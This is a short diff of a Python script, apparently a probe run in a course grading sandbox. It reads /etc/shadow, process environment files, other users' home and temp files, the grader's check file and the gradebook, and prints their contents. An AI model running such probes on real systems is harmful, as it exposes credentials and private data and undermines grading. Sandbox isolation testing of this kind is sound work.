@@ -93,7 +93,7 @@ import glob, os
 for path in ("{course}", "{course}/checks/ps1.py", "{course}/gradebook.db", "/etc/shadow", "/root", "/var", "/proc/1/environ"):
     try: print(path, open(path, "rb").read(2000) if os.path.isfile(path) else os.listdir(path))
     except OSError as error: print(path, error.errno)
-for pattern in ("/home/*/*", "/tmp/*", "/work/*", "/proc/*/environ"):
+for pattern in ("/home/*/*", "/tmp/*", "/srv/*", "/proc/*/environ"):
     for path in glob.glob(pattern):
         try: print(path, open(path, "rb").read(2000))
         except OSError: pass
